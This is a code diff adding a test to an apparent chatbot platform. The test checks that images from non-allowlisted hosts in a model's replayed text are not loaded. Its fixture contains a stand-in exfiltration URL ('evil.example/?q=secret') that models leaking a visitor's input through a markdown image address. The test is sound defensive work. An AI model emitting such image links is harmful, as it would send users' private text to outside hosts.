@@ -108,4 +108,19 @@ describe("a model's text", () => {
       true,
     ]);
   });
+
+  it("loads no image of another host when it is shown again, as its address could tell what the visitor wrote", async () => {
+    const images =
+      "![one](https://evil.example/?q=secret) ![two](https://Shop.example/two.png) ![three](/three.png)";
+    const bot: CompiledBot = testBot({
+      groups: { g: [model, say("I think: {{answer}}"), say("{{answer}}"), say("{{copy}}")] },
+      variables: { answer: images, copy: images },
+      settings: { general: { allowedImageHosts: ["shop.example"] } },
+    });
+    const { turn } = await talkTo(bot);
+    const kinds = turn.reply.messages.map(({ content }) => JSON.stringify(content).match(/"(?:a|img)"/g));
+    const asked = ['"a"', '"img"', '"img"'];
+    expect(kinds).toEqual([asked, asked, ['"img"', '"img"', '"img"']]);
+    expect(JSON.stringify(turn.reply.messages[0])).toContain('"url":"https://evil.example/?q=secret"');
+  });
 });
